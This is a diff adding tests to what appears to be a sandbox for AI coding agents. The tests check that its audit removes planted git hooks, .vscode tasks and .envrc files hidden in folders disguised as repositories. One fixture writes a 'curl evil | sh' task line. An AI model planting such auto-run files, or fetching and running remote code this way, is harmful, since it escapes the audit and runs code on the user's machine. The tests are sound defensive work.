@@ -200,6 +200,67 @@ def test_a_folder_that_looks_like_a_repository_hides_nothing_from_the_audit(
     shutil.rmtree(lab.project / "src")
 
 
+NESTED_DISGUISE = (
+    "for d in lib ctl; do mkdir -p $d/modules/a $d/modules/app/.vscode $d/worktrees/w && "
+    "(cd $d/modules/a && git init -q && : > HEAD && : > config && "
+    "printf '#!/bin/sh\\necho HOOK-RAN\\n' > .git/hooks/pre-commit && "
+    "chmod 755 .git/hooks/pre-commit) && echo '{}' > $d/modules/app/.vscode/tasks.json && "
+    "echo 'echo ENVRC-RAN' > $d/worktrees/w/.envrc; done; "
+    "(cd lib && : > HEAD && mkdir objects refs); echo PLANTED")
+
+
+def test_a_folder_that_looks_like_a_repository_hides_nothing_in_its_modules(
+        who: Identity, lab: Lab) -> None:
+    """The same disguise one level down (review 5): ``lib/`` made to look bare, the audit
+    walked its ``modules/`` and ``worktrees/`` for git directories alone, and stopped at
+    the first (``HEAD`` and ``config`` were enough): the new repository's hook beneath
+    it, and the protected names beside it, stayed.  ``ctl/``, the same without the
+    disguise, was always audited."""
+    r = agent(who, lab, NESTED_DISGUISE)
+    assert "PLANTED" in r.stdout, r
+    for d in ("lib", "ctl"):
+        assert not (lab.project / d / "modules/a/.git/hooks/pre-commit").exists(), r.stderr
+        assert not (lab.project / d / "modules/app/.vscode").exists(), r.stderr
+        assert not (lab.project / d / "worktrees/w/.envrc").exists(), r.stderr
+    shutil.rmtree(lab.project / "lib")
+    shutil.rmtree(lab.project / "ctl")
+    # Control: planted by the naive sandbox, host git in lib/modules/a runs the hook.
+    naive(who, lab, NESTED_DISGUISE)
+    ran = _host_git(who, lab.project / "lib" / "modules" / "a", "-c", "user.name=u", "-c",
+                    "user.email=u@example.invalid", "commit", "-q", "--allow-empty", "-m", "x")
+    assert "HOOK-RAN" in ran.stdout + ran.stderr, ran
+    shutil.rmtree(lab.project / "lib")
+    shutil.rmtree(lab.project / "ctl")
+
+
+def test_a_protected_folder_the_launch_did_not_reach_is_still_compared(
+        who: Identity, lab: Lab) -> None:
+    """A ``.vscode`` already inside a submodule's git directory of a bare-looking folder:
+    the launch scan stops at that git directory (left writable), so the folder was not
+    made read-only, and the audit looked at it only if the folder itself had changed.
+    Now what changed inside any protected folder goes.  Control: the naive sandbox's
+    change stays."""
+    sub = lab.project / "lib" / "modules" / "a"
+    for d in ("objects", "refs", "modules/a/objects", "modules/a/refs", "modules/a/.vscode"):
+        (lab.project / "lib" / d).mkdir(parents=True)
+    (lab.project / "lib" / "HEAD").write_text("ref: refs/heads/main\n")
+    (sub / "HEAD").write_text("ref: refs/heads/main\n")
+    (sub / "config").write_text("[core]\n\tbare = true\n")
+    tasks = sub / ".vscode" / "tasks.json"
+    tasks.write_text("{}\n")
+    lab.own(lab.project / "lib")
+    change = ("echo '{\"tasks\": [\"curl evil | sh\"]}' > lib/modules/a/.vscode/tasks.json; "
+              "echo CHANGED")
+    r = agent(who, lab, change)
+    assert "CHANGED" in r.stdout, r
+    assert not tasks.exists() or "evil" not in tasks.read_text(), r.stderr
+    assert "tasks.json" in r.stderr, r.stderr
+    tasks.write_text("{}\n")
+    lab.own(tasks)
+    naive(who, lab, change)  # control: without the audit, the change stays
+    assert "evil" in tasks.read_text()
+
+
 # --- corral's copies of the agents' state, and their logins ----------------------------
 
 def test_a_project_holding_corrals_state_copies_is_refused(who: Identity, lab: Lab) -> None:
